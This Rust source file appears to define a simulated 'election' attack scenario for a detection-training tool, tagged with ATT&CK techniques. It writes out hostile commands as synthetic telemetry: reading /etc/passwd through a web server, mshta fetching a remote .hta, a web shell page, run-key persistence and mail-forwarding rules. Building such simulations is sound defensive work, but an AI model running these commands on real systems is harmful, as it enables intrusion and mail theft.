//! Scenario `election`: a party's mailboxes are phished and its web server probed before an election, while personas
//! push what was taken.

use palisade_model::{ObservableKind, Vector};

use crate::acts::{connect, marked, set_value, wrote};
use crate::cloud::{AT_DESK, Cloud, SignIn};
use crate::plan::Plan;
use crate::scenario::decoys::{self, Grounds};
use crate::scenario::moves::{
    self, changes, consent, download, exchange, looks_up, reaches, risky, server, signs_in,
};
use crate::scenario::programs::{BROWSER, EXPLORER, MSHTA};
use crate::scenario::{ScenarioInfo, Scene, rules};
use crate::truth::ActorProfile;
use crate::world::{Role, World};

/// The scenario.
pub(crate) const SCENE: Scene = Scene {
    info: ScenarioInfo {
        name: "election",
        title: "Five weeks to the vote",
        summary: "A party's staff are phished with codes for a meeting device and with an archive that a page builds \
                  itself. Mailboxes are read through consent and rules, documents are taken, the web server is \
                  entered. Personas publish what was taken, some of it changed.",
        sources: &[
            "Public indictments and reports on the mailboxes of parties in 2016 and 2017",
            "Public reports of 2025 on sign-ins with device codes against parties and ministries",
            "Public reports on series of spear phishing of politicians' private mailboxes since 2015",
        ],
        vectors: &[Vector::Host, Vector::Mail, Vector::Influence, Vector::Network],
    },
    label: "mittelbund",
    end: 1_789_948_800, // 2026-09-21
    cast: &[
        (Role::Office, 9),
        (Role::Admin, 1),
        (Role::Server, 1),
        (Role::Controller, 1),
        (Role::WebWindows, 1),
        (Role::LinuxWeb, 2),
    ],
    clouds: &[Cloud::SignIns, Cloud::Directory, Cloud::M365],
    ledger: false,
    plant,
    actors,
    notes: &[
        "Staff on the road sign in from the same VPN exits and are called anonymous by the directory.",
        "The archive was built by a page behind shared content delivery, whose address everybody reaches.",
        "The web server is joined to the rest by one address alone, a third desk by the hash of an archive.",
    ],
};

const ACTOR: &str = "PALE LAPWING";

fn actors(world: &World) -> Vec<ActorProfile> {
    vec![super::actor(
        world,
        ACTOR,
        "the fictional Republic of Varny",
        &["T1566.002", "T1528", "T1114.003", "T1564.008", "T1530", "T1505.003"],
        &["mailpick"],
        &["invitations to meetings", "leaks in three languages at once"],
    )]
}

/// One story, told in the order in which it happens.
fn plant(p: &mut Plan<'_>) {
    let w = p.world;
    let (desk, second, third) = (p.take(Role::Office), p.take(Role::Office), p.take(Role::Office));
    let (web, old) = (p.take(Role::LinuxWeb), p.take(Role::WebWindows));
    let (chief, press) = (w.owner(desk).clone(), w.owner(second).clone());
    let treasurer = p.take_colleague();
    let away = server(p, "meet-join", "org");
    let stage = server(p, "stage", "net");
    let exit = w.exits[0].clone();
    let tool = p.tool("mailpick");
    let sender = format!("events@mittelbund-press-{}.example.com", p.dice.hex(3));

    p.campaign("five weeks to the vote", ACTOR);
    p.phase(20, 8);
    p.later(
        Vector::Mail,
        0,
        "invitations with a code for a meeting device",
        &["T1566.002"],
        &[
            (ObservableKind::Email, &sender),
            (ObservableKind::Email, &chief.mail),
            (ObservableKind::Email, &treasurer.mail),
            (ObservableKind::Domain, &away.name),
        ],
    );
    let device = SignIn {
        app: "Microsoft Authentication Broker",
        client: "Mobile Apps and Desktop clients",
        protocol: "deviceCode",
        two_factors: false,
        managed: false,
        country: "NL",
        agent: "python-requests/2.31",
        ..AT_DESK
    };
    p.step(1_200, "the chief of staff types the code", &["T1566.002", "T1528"], &[rules::DEVICE_CODE]);
    signs_in(p, &chief.mail, &away.ip, &device);
    p.step(1_500, "the directory calls the token unusual", &["T1539"], &[rules::RISK]);
    risky(p, &chief.mail, &away.ip, "anomalousToken");
    p.step(3_000, "the treasurer types one, too", &["T1528"], &[rules::DEVICE_CODE]);
    signs_in(p, &treasurer.mail, &away.ip, &device);

    p.phase(90, 14);
    p.step(0, "an application gets lasting access to mail", &["T1528", "T1098.003"], &[rules::CONSENT]);
    consent(p, &chief.mail, &away.ip, "Mail.Read Mail.Send Files.Read.All offline_access");
    p.step(600, "an inbox rule hides warnings", &["T1564.008"], &[rules::INBOX_HIDES]);
    let hide = [
        ("Name", ".."),
        ("SubjectOrBodyContainsWords", "password;suspicious;sign-in"),
        ("DeleteMessage", "True"),
    ];
    exchange(p, &chief.mail, &away.ip, "New-InboxRule", &hide);

    p.phase(210, 9);
    p.later(
        Vector::Mail,
        0,
        "a page that builds an archive is sent to the press office",
        &["T1566.002"],
        &[(ObservableKind::Email, &sender), (ObservableKind::Email, &press.mail)],
    );
    let archive = p.tool("archive");
    p.step(900, "the archive a page built itself", &["T1027.006"], &[rules::SMUGGLED]);
    let browser = p.standing(second, &press.windows, BROWSER);
    let zip = format!("C:\\Users\\{}\\Downloads\\programme-draft.zip", press.account);
    p.on(second, marked(&browser, &zip, "about:internet", &archive));
    p.step(960, "a script run out of it", &["T1204.002", "T1059.007"], &[rules::ARCHIVE]);
    let explorer = p.standing(second, &press.windows, EXPLORER);
    let place = format!("C:\\Users\\{}\\AppData\\Local\\Temp\\Temp1_programme-draft.zip", press.account);
    let script = p.run(
        second,
        &explorer,
        "C:\\Windows\\System32\\wscript.exe",
        &format!("wscript.exe \"{place}\\programme.js\""),
    );
    p.step(970, "it reaches its server", &["T1105", "T1071.001"], &[rules::SCRIPT_OUT]);
    looks_up(p, second, &script, &away);
    reaches(p, second, &script, &away);
    let shell = moves::encoded(p, 990, second, &script);
    if p.perhaps(4) {
        p.step(1_020, "a run key to come back", &["T1547.001"], &[rules::RUN_KEY]);
        let key = format!("HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Agenda", press.sid);
        p.on(second, set_value(&shell, &key, "mshta.exe C:\\Users\\Public\\agenda.hta"));
    }

    p.phase(280, 13);
    let youth = w.owner(third).clone();
    p.step(0, "the same archive under another name on another desk", &["T1027.006"], &[rules::SMUGGLED]);
    let browser = p.standing(third, &youth.windows, BROWSER);
    let zip = format!("C:\\Users\\{}\\Downloads\\poster (1).zip", youth.account);
    p.on(third, marked(&browser, &zip, "about:internet", &archive));

    p.phase(350, 20);
    p.step(0, "mail sent on to an address outside", &["T1114.003"], &[rules::INBOX_FORWARDS]);
    let forward = [("Name", "copy"), ("ForwardTo", "archive.office@mailbox.example.org")];
    exchange(p, &treasurer.mail, &stage.ip, "New-InboxRule", &forward);
    p.step(400, "the treasurer's account signs in from a VPN exit", &["T1078.004"], &[]);
    signs_in(p, &treasurer.mail, &exit, &SignIn { managed: false, two_factors: false, ..AT_DESK });
    p.step(420, "the directory calls it impossible travel", &["T1078.004"], &[rules::RISK]);
    risky(p, &treasurer.mail, &exit, "impossibleTravel");
    p.step(900, "donor lists and strategy papers are downloaded", &["T1530", "T1213.002"], &[]);
    for file in ["donors-2026.xlsx", "strategy-final.docx", "opponent-notes.docx"] {
        download(p, &treasurer.mail, &stage.ip, file);
    }

    p.phase(520, 21);
    let admin = p.take_admin().mail;
    p.step(0, "an administrator's account signs in over an old protocol", &["T1078.004"], &[rules::LEGACY]);
    let old_way = SignIn { client: "Exchange Web Services", two_factors: false, managed: false, ..AT_DESK };
    signs_in(p, &admin, &stage.ip, &old_way);
    p.step(300, "it grants itself a mailbox", &["T1098.002"], &[rules::MAILBOX_ACCESS]);
    let grant = [("Identity", chief.account.as_str()), ("User", "room-4"), ("AccessRights", "FullAccess")];
    exchange(p, &admin, &stage.ip, "Add-MailboxPermission", &grant);
    p.step(500, "a secret is added to an application", &["T1098.001"], &[rules::APP_SECRET]);
    changes(p, &admin, &stage.ip, "Add service principal credentials", "Newsletter sync");
    p.step(700, "auditing of a mailbox is bypassed", &["T1685.002"], &[rules::MAIL_AUDIT_BYPASSED]);
    let bypass = [("Identity", "room-4"), ("AuditBypassEnabled", "True")];
    exchange(p, &admin, &stage.ip, "Set-MailboxAuditBypassAssociation", &bypass);

    p.phase(690, 2);
    p.later(
        Vector::Network,
        0,
        "the web site is probed for weak places",
        &["T1595.002"],
        &[(ObservableKind::Ip, &stage.ip)],
    );
    p.step(3_600, "the web server runs reconnaissance", &["T1190", "T1505.003"], &[rules::WEB_RECON]);
    let server = p.standing(web, "www-data", "/usr/sbin/php-fpm8.2");
    let shell = p.run(web, &server, "/bin/sh", "sh -c id; uname -a; cat /etc/passwd");
    p.step(3_700, "a program in a temporary directory calls home", &["T1105"], &[rules::TEMPORARY_OUT]);
    let agent = p.run_file(web, &shell, "/dev/shm/.s", "/dev/shm/.s", Some(&tool));
    let from = w.hosts[web].ip.clone();
    let event = connect(&agent, &from, &stage.ip, &stage.name, 443, &mut p.dice);
    p.on(web, event);
    p.step(3_900, "it puts itself into a table of tasks", &["T1053.003"], &[rules::CRON]);
    let php = p.standing(web, "www-data", "/usr/bin/php8.2");
    p.on(web, wrote(&php, "/etc/cron.d/site-cache"));
    p.step(
        5_000,
        "a page is written to the old site by its own server",
        &["T1505.003"],
        &[rules::WEB_SCRIPT],
    );
    let pool = p.standing(old, "IIS APPPOOL\\Site", crate::scenario::programs::POOL);
    p.on(old, wrote(&pool, "C:\\inetpub\\wwwroot\\press\\thumb.aspx"));
    p.step(5_060, "and a shell is started through it", &["T1505.003"], &[rules::WEB_SHELL]);
    let cmd = p.run(old, &pool, crate::scenario::programs::CMD, "cmd.exe /c whoami");
    p.step(5_090, "which fetches with a host of scripts", &["T1218.005"], &[rules::MSHTA, rules::SCRIPT_OUT]);
    let mshta = p.run(old, &cmd, MSHTA, &format!("mshta.exe https://{}/t.hta", stage.name));
    reaches(p, old, &mshta, &stage);

    p.phase(880, 10);
    p.later(
        Vector::Influence,
        0,
        "a site with leaks appears",
        &["T1583.001"],
        &[(ObservableKind::Domain, &stage.name)],
    );
    p.later(
        Vector::Influence,
        7_200,
        "twelve personas push it within minutes of each other",
        &["T1585.001"],
        &[(ObservableKind::Domain, &stage.name)],
    );
    p.phase(960, 11);
    p.later(
        Vector::Influence,
        0,
        "a changed document among true ones",
        &["T1565.001"],
        &[(ObservableKind::FileName, "strategy-final.docx")],
    );

    let grounds = Grounds {
        tested_desk: p.take(Role::Office),
        tested_server: p.take(Role::Server),
        careless_desk: p.take(Role::Office),
        hardened: p.take(Role::Controller),
        when: [440, 150, 600],
    };
    decoys::plant(p, &grounds);
}
